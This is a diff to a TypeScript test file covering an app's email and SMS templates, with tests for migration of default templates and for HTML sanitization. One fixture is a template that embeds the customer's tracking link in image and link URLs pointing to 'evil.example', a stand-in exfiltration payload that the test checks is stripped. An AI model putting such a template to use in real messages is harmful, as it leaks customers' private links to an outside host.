@@ -1,8 +1,12 @@
+import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { toInstant } from '../../db/columns.js';
+import { migrate } from '../../db/migrator.js';
+import { databaseBefore } from '../../testing/earlier-database.js';
 import { insertTestRequest } from '../../testing/insert-rows.js';
 import { signedInAs } from '../../testing/sign-in.js';
 import { startTestApp, type TestApp } from '../../testing/test-app.js';
+import { TestClock } from '../../testing/test-clock.js';
 import { enqueueTemplate } from '../messages/enqueue-template.js';
 import { ensureDefaultTemplates } from './ensure-default-templates.js';
 import { sanitizeEmailHtml } from './sanitize-email-html.js';
@@ -49,6 +53,24 @@ describe('the built-in templates', () => {
     await own.close();
   });
 
+  it('that a later version brings are added where they are missing, and what was edited or deleted before stays as it is', async () => {
+    const { db, remove } = await databaseBefore('019');
+    const deps = { db, clock: new TestClock() };
+    const at = '2026-11-01T00:00:00.000Z';
+    await sql`insert into default_templates_given (channel, language) values ('sms', 'en'), ('email', 'en'), ('sms', 'es'), ('email', 'es')`.execute(db);
+    await sql`insert into email_templates (name, type, subject, content, created_at, updated_at) values ('Edited', 'custom_notification', 'S', 'Mine', ${at}, ${at})`.execute(db);
+    await migrate(db);
+    // As if this version had one more: what the older one did not know has never been given.
+    await db.deleteFrom('default_templates_given').where('type', '=', 'detailed_quote_email').execute();
+    for (let start = 0; start < 2; start += 1) await ensureDefaultTemplates(deps);
+    expect(await db.selectFrom('sms_templates').select('id').execute()).toEqual([]);
+    expect(await db.selectFrom('email_templates').select(['name', 'type', 'language']).orderBy('id').execute()).toEqual([
+      { name: 'Edited', type: 'custom_notification', language: 'en' },
+      { name: 'Cotización detallada', type: 'detailed_quote_email', language: 'es' }, { name: 'Detailed quote', type: 'detailed_quote_email', language: 'en' },
+    ]);
+    await remove();
+  });
+
   it('are the administrator’s alone', async () => {
     const { browser } = await signedInAs(testApp);
     expect((await browser.rest('GET', '/api/sms-templates')).status).toBe(403);
@@ -77,6 +99,19 @@ describe('a message made from a template', () => {
     const message = await enqueued(id);
     expect(message).toMatchObject({ subject: 'Got QR-ABCD1234', status: 'waiting', quote_request_id: request.id });
     expect(message.body).toBe('<p>Hi javascript:&lt;b&gt;Ana&lt;/b&gt;</p><a>x</a>');
+  });
+
+  it('of an installation that was saved before tells no other server the customer\'s link', async () => {
+    const request = await insertTestRequest(testApp.deps);
+    await insertEmailTemplate(testApp.deps.db, {
+      ...row(), type: 'quote_request_confirmation', subject: 'Got it', content: '<p>Hi</p><img src="https://evil.example/?{{trackingUrl}}" /><a href="https://evil.example/?{{trackingUrl}}">x</a>'
+        + '<a href="{{trackingUrl}}">Open</a>',
+    });
+    const id = await enqueueTemplate(testApp.deps.db, testApp.deps, {
+      cause: 'system', channel: 'email', type: 'quote_request_confirmation', to: 'ana@example.test', request, values: { trackingUrl: 'https://ours.example/track?key=k3y' },
+    });
+    expect((await enqueued(id)).body).toBe('<p>Hi</p><img /><a>x</a><a href="https://ours.example/track?key=k3y">Open</a>');
+    await testApp.deps.db.deleteFrom('email_templates').where('subject', '=', 'Got it').execute();
   });
 
   it('falls back to the built-in text when every template of the type is switched off', async () => {
